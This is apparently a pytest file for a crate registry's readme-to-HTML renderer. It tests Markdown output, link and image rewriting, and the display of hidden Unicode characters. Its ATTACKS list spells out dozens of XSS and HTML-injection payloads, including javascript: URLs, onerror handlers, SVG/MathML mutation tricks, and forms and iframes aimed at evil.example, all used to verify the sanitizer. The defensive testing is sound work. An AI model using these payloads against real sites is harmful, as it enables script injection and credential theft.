"""Readmes as HTML: what is shown of them, and that nothing in them can run."""

import re

import pytest

from pulp_cargo.rules.highlight import highlight_block, highlight_file
from pulp_cargo.rules.readme import base_of, render_readme

REPOSITORY = "https://github.com/shapes/shapes"
BLOB = "https://github.com/shapes/shapes/blob/HEAD/"
RAW = "https://github.com/shapes/shapes/raw/HEAD/"


def shown(text: str, repository: str | None = REPOSITORY) -> str:
    """Render a readme, without the line break at its end."""
    return render_readme(text, repository).removesuffix("\n")


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("*a* **b** `c`", "<p><em>a</em> <strong>b</strong> <code>c</code></p>"),
        ("~~a~~", "<p><s>a</s></p>"),
        ("a\n\n---", "<p>a</p>\n<hr>"),
        ("- [ ] a\n- [x] b", "<ul>\n<li>☐ a</li>\n<li>☑ b</li>\n</ul>"),
        ("- [x](y)", f'<ul>\n<li><a href="{BLOB}y" rel="nofollow noopener">x</a></li>\n</ul>'),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
        ("a < b & c", "<p>a &lt; b &amp; c</p>"),
        ("<details><summary>a</summary>b</details>", "<details><summary>a</summary>b</details>"),
        ("<kbd>a</kbd>", "<p><kbd>a</kbd></p>"),
        ('<div align="center">a</div>', '<div align="center">a</div>'),
        ("    a <b>", '<pre tabindex="0"><code>a &lt;b&gt;\n</code></pre>'),
    ],
)
def test_markdown_is_rendered(text: str, html: str) -> None:
    """CommonMark, and what GitHub adds to it."""
    assert shown(text) == html


def test_table_can_be_scrolled() -> None:
    """By the keyboard as well; cells keep their alignment."""
    assert shown("| a | b |\n|---|--:|\n| 1 | 2 |") == (
        '<div class="scroll" tabindex="0" role="group" aria-label="Table"><table>\n'
        '<thead>\n<tr>\n<th>a</th>\n<th align="right">b</th>\n</tr>\n</thead>\n'
        '<tbody>\n<tr>\n<td>1</td>\n<td align="right">2</td>\n</tr>\n</tbody>\n</table></div>'
    )


def test_code_has_colours_by_classes() -> None:
    """Rust as rustdoc names it; an unknown language is shown without colours."""
    assert shown("```rust,no_run\nfn\n```") == (
        '<pre tabindex="0"><code><span class="hl-k">fn</span>\n</code></pre>'
    )
    assert shown("```zig\nfn\n```") == '<pre tabindex="0"><code>fn\n</code></pre>'
    assert highlight_block("<b>", "no such") == "&lt;b&gt;"
    assert highlight_block("a = 1", "toml") == (
        '<span class="hl-n">a</span><span class="hl-w"> </span><span class="hl-o">=</span>'
        '<span class="hl-w"> </span><span class="hl-mi">1</span>'
    )


def test_headings_have_ids_and_stand_below_those_of_the_page() -> None:
    """Links of the readme to its headings work, and equal headings have ids of their own."""
    assert shown("# A b!\n\n## A b\n\n<h1>c</h1>\n\n[x](#a-b)") == (
        '<h3 id="readme-a-b">A b!</h3>\n<h4 id="readme-a-b-1">A b</h4>\n<h3>c</h3>\n'
        '<p><a href="#readme-a-b" rel="nofollow noopener">x</a></p>'
    )


@pytest.mark.parametrize(
    ("target", "found"),
    [
        ("docs/a.md", BLOB + "docs/a.md"),
        ("./docs/a.md#b", BLOB + "docs/a.md#b"),
        ("/LICENSE", BLOB + "LICENSE"),
        ("https://a.example/b", "https://a.example/b"),
        ("http://a.example/b", "http://a.example/b"),
        ("//a.example/b", "https://a.example/b"),
        ("mailto:a@b.example", "mailto:a@b.example"),
        ("../../../../evil", None),
        ("ftp://a.example", None),
        ("https://[x", None),
    ],
)
def test_links_lead_to_the_repository(target: str, found: str | None) -> None:
    """A relative link means a file there; what leads out of it, or elsewhere, is dropped."""
    href = f'href="{found}" ' if found else ""
    assert shown(f'<a href="{target}">x</a>') == f'<p><a {href}rel="nofollow noopener">x</a></p>'


@pytest.mark.parametrize(
    ("source", "found"),
    [
        ("logo.png", RAW + "logo.png"),
        ("https://a.example/b.png", "https://a.example/b.png"),
        ("http://a.example/b.png", None),
        ("data:image/svg+xml,x", None),
        ("javascript:alert(1)", None),
        ("../up.png", None),
    ],
)
def test_images_are_loaded_by_https_only(source: str, found: str | None) -> None:
    """Others are replaced by their texts."""
    html = shown(f'<img src="{source}" alt="a">')
    assert ('alt="a"' in html, f'src="{found}"' in html) == (True, found is not None)
    assert ("src=" in html) == (found is not None)


def test_relative_links_without_a_repository_are_dropped() -> None:
    """They would lead to pages of the registry."""
    for repository in (None, "", "https://git.example/a/b", "http://github.com/a/b", "https://["):
        html = shown("[x](y) ![z](z.png)", repository)
        assert html.startswith('<p><a rel="nofollow noopener">x</a> <img ')
        assert 'alt="z"' in html and "src=" not in html


@pytest.mark.parametrize(
    ("repository", "links"),
    [
        ("https://github.com/a/b", "https://github.com/a/b/blob/HEAD/"),
        ("https://github.com/a/b.git", "https://github.com/a/b/blob/HEAD/"),
        ("https://github.com/a/b/", "https://github.com/a/b/blob/HEAD/"),
        ("https://github.com/a/b/tree/main/c", "https://github.com/a/b/blob/HEAD/"),
        ("https://gitlab.com/a/b/c", "https://gitlab.com/a/b/c/-/blob/HEAD/"),
        ("https://gitlab.example/a/b/-/tree/x", "https://gitlab.example/a/b/-/blob/HEAD/"),
        ("https://github.com/a", None),
        ("https://user:secret@github.com/a/b", None),
        ("https://evil.example/github.com/a/b", None),
    ],
)
def test_base_of_links(repository: str, links: str | None) -> None:
    """The newest state of a repository on GitHub or GitLab, also of one's own GitLab."""
    assert base_of(repository).links == links


# Each tries to run a script, to load something, or to change the page around the readme.
ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://a.example/x' onload='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]\n\n[x]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    '![x](https://a.example/"onerror="alert(1))',
    "[x](https://a.example/'onclick='alert(1) \"t' onclick='alert(1)\")",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<style>body { display: none }</style>",
    "<p style='position: fixed; top: 0'>x</p>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=password><button>x</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<p id=content>x</p><a name=content>y</a>",
    "<img name=getElementById id=cookie>",
    "<div class='site skip error'>x</div>",
    "<div role=banner aria-hidden=true tabindex=5>x</div>",
    "</section></div></main></body><h1>x</h1>",
    "<details ontoggle=alert(1) open>x</details>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<x onclick=alert(1)>x</x>",
    '```"><script>alert(1)</script>\nx\n```',
    "```rust\n</code></pre><script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '# <script>alert(1)</script> "onclick="alert(1)',
    "- [x] <script>alert(1)</script>",
    '<img alt="<table><script>alert(1)</script>" src="https://a.example/x">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><script>alert(1)</script>-->",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<![CDATA[<script>alert(1)</script>]]>",
]
TAG = re.compile(r"<(/?)([a-z][a-z0-9]*)((?: [a-z-]+(?:=\"[^\"<>]*\")?)*)>")
ATTRIBUTE = re.compile(r" ([a-z-]+)(?:=\"([^\"]*)\")?")
SHOWN = set(
    re.findall(
        r"\S+",
        "a b blockquote br code dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr i img kbd li ol p pre"
        " s span strong sub summary sup table tbody td th thead tr u ul",
    )
)
NAMES = set(
    re.findall(
        r"\S+",
        "align alt aria-label class colspan height href id loading open referrerpolicy rel role rowspan"
        " src start tabindex title width",
    )
)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("frame", ["{}", "> {}", "a {} b", "<p>{}</p>", "<div>\n\n{}\n\n</div>"])
def test_nothing_can_run(attack: str, frame: str) -> None:
    """Only elements and attributes of the two lists are left, and no URL but those of the Web."""
    html = shown(frame.format(attack))
    assert "<" not in TAG.sub("", html), html
    for _, tag, attributes in TAG.findall(html):
        assert tag in SHOWN, html
        for name, value in ATTRIBUTE.findall(attributes):
            assert name in NAMES, html
            if name == "href":
                assert re.match(r"(https?:|mailto:|#readme-)", value), html
            if name == "src":
                assert value.startswith("https://"), html
            if name == "id":
                assert value.startswith("readme-"), html
            if name == "class":
                assert re.fullmatch(r"(scroll|hl-[a-z0-9]+)?", value), html


def test_elements_are_closed_within_the_readme() -> None:
    """A readme cannot end the elements of the page around it."""
    assert shown("</section></main><div><p>a") == "<div><p>a</p></div>"


def test_source_shows_hidden_characters() -> None:
    """Right-to-left marks and zero-width characters are written out; tabs and Windows ends are not."""
    assert highlight_file("a\u202eb\u200bc\td\r\n\x1b[2J\n", "x.txt") == [
        "a[U+202E]b[U+200B]c\td",
        "[U+001B][2J",
    ]


@pytest.mark.parametrize(
    "hidden", "\u00ad\u034f\u115f\u180e\u2060\u2800\u3164\ufe00\ufeff\uffa0\U000e0041\U000e0100"
)
def test_source_shows_what_unicode_hides(hidden: str) -> None:
    """Also blanks that may be in names, and characters without any width."""
    assert highlight_file(f"a{hidden}b", "x.txt") == [f"a[U+{ord(hidden):04X}]b"]


def test_source_shows_signs_of_people() -> None:
    """Letters with accents, spaces and emoji are no tricks."""
    text = "caf\u00e9 e\u0301 \u2714\ufe0f \u65e5\u672c\u00a0\u3000"
    assert highlight_file(text, "x.txt") == [text]


@pytest.mark.parametrize(
    ("path", "text", "line"),
    [
        ("src/lib.rs", "fn", '<span class="hl-k">fn</span>'),
        ("src/lib.RS", "fn", '<span class="hl-k">fn</span>'),
        ("Cargo.lock", "# a", '<span class="hl-c1"># a</span>'),
        ("Makefile", "# a", '<span class="hl-c"># a</span>'),
        ("lib.unknown", "fn", "fn"),
        ("fn", "fn", "fn"),
    ],
)
def test_source_has_colours_by_its_name(path: str, text: str, line: str) -> None:
    """By the ending, or by the whole name of some files."""
    assert highlight_file(text + "\n", path) == [line]


def test_source_lines_are_whole_elements() -> None:
    """A comment over two lines has its elements closed in each, since each line is in its own."""
    for line in highlight_file("/* a\nb */ fn\n", "a.rs"):
        assert line.count("<span") == line.count("</span>")
